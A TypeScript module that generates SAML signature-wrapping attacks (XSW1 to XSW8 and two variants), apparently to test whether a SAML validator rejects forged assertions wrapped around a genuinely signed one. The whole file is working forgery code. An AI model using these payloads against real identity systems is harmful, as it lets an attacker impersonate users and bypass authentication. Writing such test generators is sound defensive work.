/**
 * Signature wrapping (XSW 1 to 8, after Somorovsky and others, "On Breaking SAML", 2012): the signed part stays in the
 * document, and a forged one stands where a careless reader looks.
 */
const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/
const SIGNATURE = /<Signature[\s\S]*?<\/Signature>/

const assertionIn = (xml: string): string => ASSERTION.exec(xml)?.[0] ?? ''
const withoutSignature = (xml: string): string => xml.replace(SIGNATURE, '')
const signatureIn = (xml: string): string => SIGNATURE.exec(xml)?.[0] ?? ''

const intoSignature = (signature: string, content: string): string =>
  signature.replace('</Signature>', `<Object>${content}</Object></Signature>`)

export type Forge = (assertion: string) => string

/** `response`: assertion and response are signed. `forge` changes an assertion to what the attacker wants to be. */
export function wrapped(response: string, forge: Forge): Readonly<Record<string, string>> {
  const assertion = assertionIn(response)
  const bare = withoutSignature(assertion)
  const otherId = (xml: string) => xml.replace(/ ID="[^"]+"/, ' ID="_forged"')
  const evil = otherId(forge(bare))
  const outerSignature = signatureIn(response.replace(assertion, ''))
  const unsigned = response.replace(outerSignature, '')
  const evilResponse = otherId(unsigned).replace(assertion, evil)
  const after = (xml: string, what: string) => xml.replace('</samlp:Response>', `${what}</samlp:Response>`)
  const inEvil = (what: string) => evil.replace('</saml:Issuer>', `</saml:Issuer>${what}`)
  const signature = signatureIn(assertion)
  return {
    'XSW1: the signed response inside the signature of a forged one': evilResponse.replace(
      '</saml:Issuer>',
      `</saml:Issuer>${intoSignature(outerSignature, unsigned)}`,
    ),
    'XSW2: the signed response before the signature of a forged one': evilResponse.replace(
      '</saml:Issuer>',
      `</saml:Issuer>${unsigned}${outerSignature}`,
    ),
    'XSW3: a forged assertion before the signed one': unsigned.replace(assertion, `${evil}${assertion}`),
    'XSW4: the signed assertion inside a forged one': unsigned.replace(
      assertion,
      evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`),
    ),
    'XSW5: a forged assertion with the signature, the signed one behind': after(
      unsigned.replace(assertion, inEvil(signature)),
      bare,
    ),
    'XSW6: a forged assertion with the signature, the signed one inside it': unsigned.replace(
      assertion,
      inEvil(signature.replace('</SignedInfo>', `</SignedInfo>${bare}`)),
    ),
    'XSW7: a forged assertion in Extensions, under the same id': unsigned.replace(
      assertion,
      `<samlp:Extensions>${forge(bare)}</samlp:Extensions>${assertion}`,
    ),
    'XSW8: the signed assertion in an object of the signature': unsigned.replace(
      assertion,
      inEvil(intoSignature(signature, bare)),
    ),
    'a forged assertion of another namespace prefix': unsigned.replace(
      assertion,
      `<x:Assertion xmlns:x="urn:other" ID="_forged">${forge(bare)}</x:Assertion>${assertion}`,
    ),
    'a forged assertion under the id of the signed one': unsigned.replace(
      assertion,
      forge(bare).replace('</saml:Issuer>', `</saml:Issuer>${signature}`),
    ),
  }
}
